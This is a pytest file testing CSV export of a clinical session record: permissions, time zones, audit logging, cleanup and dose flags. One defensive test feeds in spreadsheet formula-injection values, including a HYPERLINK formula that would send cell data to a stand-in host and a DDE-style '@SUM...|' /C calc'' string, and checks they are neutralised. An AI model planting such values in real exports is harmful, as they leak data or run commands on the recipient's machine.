"""The record as CSV files: what a researcher or the clinic's EHR receives (issue 12)."""

from __future__ import annotations

import csv
import datetime as dt

import pytest

from kapdesk.store.export_csv import TABLES, ExportError, column_names


def read(folder, name):
    with open(folder / name, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture
def recorded(store, clock):
    patient = store.add_patient("Ada Example", record_number="MRN-1")
    session = store.start_session(patient, protocol="IM", zone_name="Europe/Berlin")
    reading = store.add_vitals(session, {"systolic": 190, "diastolic": 100, "heart_rate": 80})
    store.add_dose(session, drug="ketamine", route="im", mg=50)
    store.correct("vitals", reading, {"systolic": 139}, reason="misread the cuff")
    other = store.add_patient("Bo Other")
    elsewhere = store.start_session(other, protocol="IM", zone_name="UTC")
    store.add_observation(elsewhere, "calm", tags=["calm"])
    return patient, session, reading, elsewhere


def test_the_whole_record_as_csv_with_corrections_as_rows_that_point_to_them(
    store, recorded, tmp_path
):
    _patient, _session, reading, _elsewhere = recorded
    info = store.export_csv(tmp_path / "export")
    assert info.rows["patients.csv"] == 2
    assert info.rows["vitals.csv"] == 1
    assert info.rows["observations.csv"] == 1
    for table in TABLES:
        path = tmp_path / "export" / table.file
        assert oct(path.stat().st_mode & 0o777) == "0o600", path  # owner-only: plain text
        with open(path, newline="", encoding="utf-8") as handle:
            assert next(csv.reader(handle)) == column_names(table)
    [row] = read(tmp_path / "export", "vitals.csv")
    assert row["id"] == str(reading)
    assert row["systolic"] == "190"  # as recorded ...
    assert row["corrections"] == "1"  # ... and said to be corrected
    # UTC and the session's own zone (Berlin, March: +01:00), the same instant.
    assert row["taken_at_utc"] == "2026-03-02T09:00:00.000000Z"
    assert row["taken_at_local"] == "2026-03-02T10:00:00+01:00"
    assert row["recorded_by_name"]
    [correction] = read(tmp_path / "export", "corrections.csv")
    assert correction["target_kind"] == "vitals"
    assert correction["target_id"] == str(reading)
    assert '"systolic": 139' in correction["changes"] or '"systolic":139' in correction["changes"]
    assert correction["reason"] == "misread the cuff"
    # Who exported what, and where to, is in the audit trail.
    with store.engine.connect() as conn:
        action = conn.exec_driver_sql(
            "SELECT action FROM audit_events ORDER BY seq DESC LIMIT 1"
        ).scalar()
    assert action == "export"
    assert store.verify().ok


def test_one_session_exports_only_its_own_rows(store, recorded, tmp_path):
    patient, session, reading, elsewhere = recorded
    info = store.export_csv(tmp_path / "one", session_id=session)
    assert info.rows["sessions.csv"] == 1
    assert info.rows["observations.csv"] == 0  # the other patient's
    assert [r["id"] for r in read(tmp_path / "one", "patients.csv")] == [str(patient)]
    assert [r["target_id"] for r in read(tmp_path / "one", "corrections.csv")] == [str(reading)]
    mine = store.export_csv(tmp_path / "theirs", patient_id=store.session(elsewhere)["patient_id"])
    assert mine.rows["vitals.csv"] == 0
    assert mine.rows["observations.csv"] == 1


def test_an_existing_folder_is_refused_and_left_alone(store, recorded, tmp_path):
    target = tmp_path / "there"
    target.mkdir()
    (target / "notes.txt").write_text("mine")
    with pytest.raises(ExportError, match="already exists"):
        store.export_csv(target)
    assert [p.name for p in target.iterdir()] == ["notes.txt"]


def test_a_stopped_export_leaves_no_plain_text_behind(store, recorded, tmp_path):
    class Stop(Exception):
        pass

    def progress(what, done, total):
        if what == "vitals.csv":
            raise Stop

    with pytest.raises(Stop):
        store.write_csv(tmp_path / "stopped", progress=progress)
    assert not (tmp_path / "stopped").exists()


def test_an_export_is_dated_in_utc_even_when_the_clinic_is_not(store, clock, tmp_path):
    patient = store.add_patient("Ada Example")
    session = store.start_session(patient, protocol="IM", zone_name="America/New_York")
    store.end_session(session)
    store.export_csv(tmp_path / "e")
    [row] = read(tmp_path / "e", "sessions.csv")
    started = dt.datetime.fromisoformat(row["started_at_local"])
    assert started.utcoffset() == dt.timedelta(hours=-5)
    assert row["started_at_utc"].endswith("Z")
    assert row["ended_at_utc"]


def test_every_exported_column_is_documented_in_the_readme():
    from pathlib import Path

    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text(encoding="utf-8")
    for table in TABLES:
        assert f"**{table.file}**" in readme
        for column, meaning in (*table.columns, *table.derived):
            assert f"`{column}` {meaning}" in readme, (table.file, column)


def test_an_export_onto_a_full_disk_says_so_and_leaves_nothing(
    store, recorded, tmp_path, monkeypatch
):
    """A full disk ended in an unexpected error (tamper QA); nothing written is kept."""
    from kapdesk.store import export_csv

    real = export_csv._private_file
    calls = []

    def full(path):
        calls.append(path)
        if len(calls) == 2:  # the first file written, the second refused
            raise OSError(28, "No space left on device")
        return real(path)

    monkeypatch.setattr(export_csv, "_private_file", full)
    target = tmp_path / "export"
    with pytest.raises(ExportError, match="No space left on device") as caught:
        store.export_csv(target)
    assert "Check the space" in str(caught.value)
    assert not target.exists()


def test_an_export_is_in_the_audit_trail_before_its_first_file_is_written(
    store, recorded, tmp_path, monkeypatch
):
    """Tamper QA: an export killed part way left plain-text files of patients, and nothing
    in the audit trail said an export had been made: its event came once all were
    written."""
    from kapdesk.store import export_csv as module

    real = module.export_csv

    def killed(*args, **kwargs):
        real(*args, **kwargs)
        raise KeyboardInterrupt  # the process stopped before the last event

    monkeypatch.setattr(module, "export_csv", killed)
    with pytest.raises(KeyboardInterrupt):
        store.export_csv(tmp_path / "export")
    with store.engine.connect() as conn:
        action, details = conn.exec_driver_sql(
            "SELECT action, details FROM audit_events ORDER BY seq DESC LIMIT 1"
        ).one()
    assert action == "export_begun"
    assert str(tmp_path / "export") in details


def test_a_cell_a_spreadsheet_would_run_is_exported_as_text(store, tmp_path):
    """Tamper QA: a patient named =HYPERLINK(...) and a note beginning @SUM(...) went out
    as they were, and a spreadsheet opening the file runs them as formulas."""
    link = '=HYPERLINK("http://x.example/?"&A1,"click")'
    patient = store.add_patient(link)
    session = store.start_session(patient, protocol="IM", zone_name="UTC")
    store.add_observation(session, "@SUM(1+1)|' /C calc'")
    store.add_observation(session, "- settled, resting")
    store.add_observation(session, "calm = settled")  # not at the start: as written
    store.export_csv(tmp_path / "export")
    [row] = read(tmp_path / "export", "patients.csv")
    assert row["display_name"] == "'" + link
    texts = sorted(r["text"] for r in read(tmp_path / "export", "observations.csv"))
    assert texts == ["'- settled, resting", "'@SUM(1+1)|' /C calc'", "calm = settled"]


def test_a_dose_entered_in_error_is_flagged_and_leaves_t0(store, clock, tmp_path):
    """Xvfb QA: sessions.csv gave T0 as the never-given dose's time, and doses.csv listed
    it with its mg and no flag: anyone summing mg or reading T0 from the export was wrong."""
    patient = store.add_patient("Ada Example")
    session = store.start_session(patient, protocol="IM", zone_name="Europe/Berlin")
    store.add_vitals(session, {"systolic": 128, "diastolic": 82})
    clock.advance(minutes=5)
    wrong = store.add_dose(session, drug="ketamine", route="im", mg=50)
    clock.advance(minutes=10)
    given = store.add_dose(session, drug="ketamine", route="im", mg=40)
    store.correct("dose", wrong, {"entered_in_error": True}, reason="not given")
    other = store.start_session(patient, protocol="IM", zone_name="UTC")
    store.add_vitals(other, {"systolic": 128, "diastolic": 82})
    clock.advance(minutes=1)
    store.add_dose(other, drug="ketamine", route="im", mg=40)
    store.export_csv(tmp_path / "e")
    doses = {r["id"]: r for r in read(tmp_path / "e", "doses.csv")}
    assert doses[str(wrong)]["entered_in_error"] == "1"
    assert doses[str(given)]["entered_in_error"] == "0"
    sessions = {r["id"]: r for r in read(tmp_path / "e", "sessions.csv")}
    row = sessions[str(session)]
    assert row["first_dose_at_utc"] == doses[str(wrong)]["given_at_utc"]  # as recorded
    assert row["t0_utc"] == doses[str(given)]["given_at_utc"]
    assert row["t0_local"] == doses[str(given)]["given_at_local"]
    assert row["t0_local"].endswith("+01:00")
    assert sessions[str(other)]["t0_utc"] == sessions[str(other)]["first_dose_at_utc"]
